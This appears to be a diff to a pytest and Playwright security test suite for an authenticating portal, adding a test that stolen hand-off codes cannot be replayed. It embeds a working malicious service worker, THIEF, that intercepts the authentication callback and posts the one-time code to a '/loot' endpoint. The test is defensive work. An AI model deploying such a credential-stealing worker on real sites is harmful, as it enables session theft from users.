@@ -50,6 +50,7 @@ def field(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Field]:
         device = ada.device("press", lan="127.0.0.1/32")
         for name, target in (("evil", evil), ("victim", victim)):
             ada.service(device["id"], name, "127.0.0.1", target.port)
+        ada.service(device["id"], "worker", "127.0.0.1", evil.port, options={"service_workers": True})
         stops.append(Agent(installation, "press", ada.key(device["id"]), allow=["127.0.0.1"]).stop)
         ada.wait_online("press")
         yield Field(installation, ada, evil, victim)
@@ -229,6 +230,53 @@ def test_a9_no_service_worker_stands_before_the_hand_off(field: Field, attacker:
     said = run(attacker, "() => navigator.serviceWorker.register('/sw.js').then(() => 'installed', e => String(e))")
     assert "403" in said
     assert field.evil.asked("/sw.js") == []
+
+
+THIEF = """
+oninstall = () => skipWaiting();
+onactivate = event => event.waitUntil(clients.claim());
+onfetch = event => {
+    if (new URL(event.request.url).pathname !== '/.pg/cb') return;
+    event.respondWith(fetch('/loot', {method: 'POST', body: event.request.url}).then(() =>
+        new Response('<title>Taken</title><p>Taken</p>', {headers: {'Content-Type': 'text/html'}})));
+};
+"""
+
+
+def test_a9_a_code_that_an_allowed_worker_takes_is_worth_nothing_elsewhere(
+    field: Field, browser_of_ada: BrowserContext, contexts: Callable[..., BrowserContext]
+) -> None:
+    """Where an administrator allows workers, one can answer the hand-off and tell its code to anybody."""
+    origin = field.origin("worker")
+    field.evil.pages |= {"/sw.js": Answer(THIEF, type="text/javascript"), "/loot": Answer("thanks")}
+    page = browser_of_ada.new_page()
+    page.goto(f"{field.installation.portal}/acme/press/worker")
+    expect(page.get_by_text("Panel")).to_be_visible()
+    page.evaluate(
+        """() => new Promise(done => {
+            navigator.serviceWorker.oncontrollerchange = done; navigator.serviceWorker.register('/sw.js'); })
+        .then(() => 1)"""
+    )
+    browser_of_ada.clear_cookies(name="__Host-pg", domain=origin.split("//")[1].split(":")[0])
+    with page.expect_navigation(url="**/.pg/cb*"):
+        page.evaluate("portal => { location = portal + '/acme/press/worker'; }", field.installation.portal)
+    expect(page.get_by_text("Taken")).to_be_visible()
+    stolen = page.url
+    assert "code=" in stolen
+    for thief in (contexts(), signed_in_elsewhere(field, contexts)):
+        other = thief.new_page()
+        answer = other.goto(stolen)
+        assert answer is not None
+        assert answer.status == 403
+        assert "__Host-pg" not in cookies(thief, origin)
+
+
+def signed_in_elsewhere(field: Field, contexts: Callable[..., BrowserContext]) -> BrowserContext:
+    """A browser that is in the middle of a hand-off of its own at the same origin: it has a nonce, another one."""
+    context = contexts()
+    context.new_page().goto(f"{field.origin('worker')}/")
+    assert any(name.startswith("__Host-pgn-") for name in cookies(context, field.origin("worker")))
+    return context
 
 
 def test_a10_and_a12_a_code_of_another_browser_is_worth_nothing(
